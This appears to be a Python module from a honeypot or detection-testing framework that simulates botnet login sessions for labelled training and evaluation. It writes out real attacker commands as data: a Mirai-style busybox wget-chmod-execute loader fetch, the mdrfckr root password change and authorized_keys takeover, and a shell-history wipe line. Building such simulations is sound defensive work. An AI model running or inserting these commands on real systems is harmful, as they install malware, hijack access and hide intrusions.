"""Botnets: many compromised hosts running one bot program, each on its own schedule."""

from __future__ import annotations

import string

from coord_core.contracts.campaigns import Verdict
from coord_core.scenarios import commands as cmd
from coord_core.scenarios.clients import popular_client
from coord_core.scenarios.credentials import (
    COMMON_CREDENTIALS,
    MIRAI_CREDENTIALS,
    popular_credential,
    random_password,
)
from coord_core.scenarios.networks import NetworkKind
from coord_core.scenarios.schedule import burst, spread, waves
from coord_core.scenarios.timeline import CommandSpec, Source, bot_pace, new_source
from coord_core.scenarios.world import HOUR, MINUTE, ActorRecord, Scale, World, one_actor

_BOT_NETWORKS = {NetworkKind.RESIDENTIAL: 0.7, NetworkKind.CLOUD: 0.2, NetworkKind.HOSTING: 0.1}
_SERVER_NETWORKS = {NetworkKind.CLOUD: 0.55, NetworkKind.RESIDENTIAL: 0.3, NetworkKind.HOSTING: 0.15}
_WAVE_NETWORKS = {NetworkKind.RESIDENTIAL: 0.55, NetworkKind.CLOUD: 0.25, NetworkKind.HOSTING: 0.2}


def _sessions_per_bot(world: World) -> int:
    return world.rng.choice((1, 1, 1, 2, 2, 3))


@one_actor(
    Verdict.COORDINATED_CAMPAIGN,
    "bots share a dropper URL host and payload hash; sessions spread over the window",
)
def dropper_botnet(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A botnet spreading one payload.

    Every bot logs in with a guessed password and runs the same dropper one-liner that fetches
    the same script from the same host (a payload update mid-window changes its SHA-256, not its
    host). Bots sit on consumer lines and rented servers worldwide and work on their own
    schedules, so their sessions are spread over the whole window: they share the dropper, not
    the timing. Some downloads fail when the host is briefly unreachable.
    """
    rng = world.rng
    host = world.payload_host({NetworkKind.HOSTING: 1.0})
    script = cmd.drop_name(rng)
    variant = rng.randrange(3)
    hashes = [cmd.sha256_hex(rng) for _ in range(rng.choice((1, 1, 2)))]
    update_at = world.any_time()
    client = popular_client(rng)
    telnet_share = rng.choice((0.0, 0.0, 0.2, 0.5))
    dictionary = rng.sample(COMMON_CREDENTIALS[:40], 8)
    base = bot_pace(rng)
    for _ in range(scale.count(rng, 12, 30)):
        bot = new_source(world, actor, _BOT_NETWORKS, pace=base, client=client)
        for start in spread(world, _sessions_per_bot(world)):
            attempts = rng.randint(1, 3)
            digest = hashes[-1] if start >= update_at else hashes[0]
            url = f"http://{host}/{script}"
            payload = cmd.Payload(url, None if rng.random() < 0.12 else digest)
            commands: list[CommandSpec] = [*cmd.recon_commands(rng, 0, 2)]
            commands.append((cmd.dropper_line(host, script, variant), (payload,)))
            telnet = rng.random() < telnet_share
            bot.session(
                start,
                protocol="telnet" if telnet else "ssh",
                client=None if telnet else client,
                credentials=rng.sample(dictionary, attempts),
                success_at=attempts - 1,
                commands=commands,
                exec_mode=not telnet,
            )


@one_actor(
    Verdict.COORDINATED_CAMPAIGN,
    "telnet busybox probing with per-session tokens; some fetch the loader from one host",
)
def mirai_telnet(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A Mirai-family IoT botnet over telnet.

    Bots on consumer lines log in with factory-default credentials, then probe the shell the
    Mirai way (``enable``/``system``/``shell``/``sh`` and ``/bin/busybox TOKEN`` with a random
    token per session, so no two sessions type the same lines; the build fixes the preamble,
    token length and echo file). A minority go on to fetch the loader for their CPU from the
    botnet's loader host. Bots scan continuously and in parallel.
    """
    rng = world.rng
    host = world.ip_of_kind({NetworkKind.HOSTING: 1.0})
    loader = cmd.drop_name(rng).split(".")[0]
    variant = cmd.mirai_variant(rng, world.fresh(lambda: cmd.mirai_echo_file(rng)))
    by_arch: dict[str, str] = {}
    base = bot_pace(rng)
    fetch_share = rng.uniform(0.2, 0.5)
    for _ in range(scale.count(rng, 15, 40)):
        bot = new_source(world, actor, {NetworkKind.RESIDENTIAL: 0.9, NetworkKind.HOSTING: 0.1}, pace=base)
        arch = cmd.bot_arch(rng)
        for start in spread(world, rng.choice((1, 1, 2, 2, 3, 4))):
            attempts = rng.randint(1, 3)
            succeeds = rng.random() < 0.75
            commands: list[CommandSpec] = [*cmd.mirai_probe(rng, variant)]
            if rng.random() < fetch_share:
                url = f"http://{host}/bins/{loader}.{arch}"
                digest = by_arch.setdefault(arch, cmd.sha256_hex(rng))
                drop = cmd.drop_name(rng).split(".")[0]
                commands.append(
                    (
                        f"/bin/busybox wget http://{host}/bins/{loader}.{arch} -O - > {drop}; "
                        f"/bin/busybox chmod 777 {drop}; ./{drop} telnet.{arch}",
                        (cmd.Payload(url, digest),),
                    )
                )
            bot.session(
                start,
                protocol="telnet",
                credentials=rng.sample(MIRAI_CREDENTIALS, attempts),
                success_at=attempts - 1 if succeeds else None,
                commands=commands,
                exec_mode=False,
            )


@one_actor(
    Verdict.COORDINATED_CAMPAIGN,
    "authorized_keys implant with the shared mdrfckr key, random chpasswd per session",
)
def mdrfckr_botnet(world: World, actor: ActorRecord, scale: Scale) -> None:
    """The long-running ``mdrfckr`` SSH botnet.

    Compromised servers log in as root, set a random root password, replace
    ``authorized_keys`` with the operators' public key (comment ``mdrfckr``) and run a fixed
    recon block. No download: the shared key and script are the tie; timing is not.
    """
    rng = world.rng
    client = popular_client(rng)
    base = bot_pace(rng)
    for _ in range(scale.count(rng, 15, 45)):
        bot = new_source(world, actor, _SERVER_NETWORKS, pace=base, client=client)
        for start in spread(world, _sessions_per_bot(world)):
            attempts = rng.randint(1, 2)
            credentials = [("root", popular_credential(rng)[1]) for _ in range(attempts)]
            commands: list[CommandSpec] = [
                "cat /proc/cpuinfo | grep name | wc -l",
                f'echo "root:{random_password(rng)}"|chpasswd|bash',
                "cd ~; chattr -ia .ssh; lockr -ia .ssh",
                f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{cmd.MDRFCKR_KEY}">>.ssh/authorized_keys '
                "&& chmod -R go= ~/.ssh && cd ~",
            ]
            commands.extend(cmd.MDRFCKR_RECON[: rng.randint(4, len(cmd.MDRFCKR_RECON))])
            bot.session(start, credentials=credentials, success_at=attempts - 1, commands=commands)


@one_actor(
    Verdict.COORDINATED_CAMPAIGN, "identical multi-line recon script, no payload, spread over the window"
)
def recon_script_botnet(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A data-stealer botnet that only looks around.

    Every bot runs the same nine-line check for MikroTik routers, miners and Telegram/SMS data
    (as two residential sources did in the real sample, 26 minutes apart) from consumer lines,
    at unrelated times. Nothing is downloaded: the script is the only tie.
    """
    rng = world.rng
    client = popular_client(rng)
    base = bot_pace(rng)
    for _ in range(scale.count(rng, 6, 20)):
        networks = {NetworkKind.RESIDENTIAL: 0.85, NetworkKind.CLOUD: 0.15}
        bot = new_source(world, actor, networks, pace=base, client=client)
        for start in spread(world, rng.choice((1, 1, 2))):
            attempts = rng.randint(1, 5)
            credentials = [popular_credential(rng) for _ in range(attempts)]
            bot.session(
                start, credentials=credentials, success_at=attempts - 1, commands=list(cmd.TELEGRAM_HUNTER)
            )


@one_actor(Verdict.COORDINATED_CAMPAIGN, "one uncommon password from many residential sources, no commands")
def single_password_botnet(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A mass scanner that logs in with one odd password from many consumer lines.

    One attempt per session (the ``345gs5662d34`` pattern DShield sees from thousands of
    addresses), sessions spread over the window, nothing typed after the login. The password is
    the only tie; the client is the commonest Go build.
    """
    rng = world.rng
    password = world.fresh(
        lambda: rng.choice(("3245gs5662d34", "345gs5662d34", random_password(rng, rng.randint(10, 14))))
    )
    username = rng.choice(("root", password))
    client = popular_client(rng)
    base = bot_pace(rng)
    for _ in range(scale.count(rng, 20, 70)):
        bot = new_source(
            world, actor, {NetworkKind.RESIDENTIAL: 0.9, NetworkKind.CLOUD: 0.1}, pace=base, client=client
        )
        for start in spread(world, rng.choice((1, 1, 1, 2))):
            bot.session(
                start, credentials=[(username, password)], success_at=0 if rng.random() < 0.5 else None
            )


HISTORY_WIPE = (
    "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; "
    "export HISTFILE=/dev/null ; export HISTSIZE=0; export HISTFILESIZE=0"
)
_WIPE_VARIANTS = (
    HISTORY_WIPE,
    "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; "
    "export HISTFILE=/dev/null ; export HISTSIZE=0; export HISTFILESIZE=0 ; history -c",
    "unset HISTFILE HISTSAVE HISTLOG HISTZONE WATCH ; history -n ; export HISTFILE=/dev/null ; "
    "export HISTSIZE=0; export HISTFILESIZE=0",
)
# The recon lines such scripts follow up with (awk-heavy one-liners, as in DShield reports).
_WIPE_RECON = (
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname -a",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cat /proc/cpuinfo | grep name | wc -l",
    "uname -s -v -n -r -m",
)


@one_actor(
    Verdict.COORDINATED_CAMPAIGN,
    "waves hours apart, every bot types the same history-wipe line and recon script",
)
def history_wipe_waves(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A botnet that arrives in waves and first switches shell history off.

    Two or three waves, hours apart, each of 15-40 fresh addresses spread over many consumer
    and hosting networks. Every bot logs in once and types the same five-line script: the
    history-wiping line (upper-case shell variables kept: ``unset HISTORY HISTFILE ...``), then
    the botnet's own four recon lines in its own order. One client version throughout. The
    script is the tie; the waves share no address and no timing.
    """
    rng = world.rng
    script = [rng.choice(_WIPE_VARIANTS), *rng.sample(_WIPE_RECON, 4)]
    client = popular_client(rng)
    base = bot_pace(rng)
    interactive = rng.random() < 0.5
    for wave in waves(world, width_us=(20 * MINUTE, 90 * MINUTE), pause_us=(2 * HOUR, 7 * HOUR)):
        bots = round(rng.randint(15, 40) * max(1.0, scale.factor))
        for start in burst(world, bots, width_us=wave.end_us - wave.start_us, at_us=wave.start_us):
            bot = new_source(world, actor, _WAVE_NETWORKS, pace=base, client=client)
            bot.session(
                start,
                credentials=[popular_credential(rng)],
                success_at=0,
                commands=script,
                exec_mode=not interactive,
            )


@one_actor(Verdict.COORDINATED_CAMPAIGN, "3-5 sources, one 14-18 character random password, no commands")
def random_password_cell(world: World, actor: ActorRecord, scale: Scale) -> None:
    """A handful of machines sharing one long random password, and little else.

    Three to five sources (a small cell: rented servers and a home line or two) each try the
    same 14-18 character random password, usually as root, once or twice over the day, and
    type nothing. The password appears nowhere else: it is the only tie.
    """
    rng = world.rng
    alphabet = string.ascii_letters + string.digits + "!@#$%^&*_-"
    password = world.fresh(lambda: "".join(rng.choice(alphabet) for _ in range(rng.randint(14, 18))))
    username = rng.choice(("root", "root", "root", "admin", "ubuntu"))
    for _ in range(rng.randint(3, 5)):
        ip = world.ip_of_kind(
            {NetworkKind.CLOUD: 0.4, NetworkKind.HOSTING: 0.35, NetworkKind.RESIDENTIAL: 0.25}
        )
        port = world.src_port_picker()
        client = popular_client(rng)
        member = Source(world, actor, ip, port, bot_pace(rng), client)
        for start in spread(world, rng.choice((1, 1, 2))):
            member.session(
                start, credentials=[(username, password)], success_at=0 if rng.random() < 0.3 else None
            )
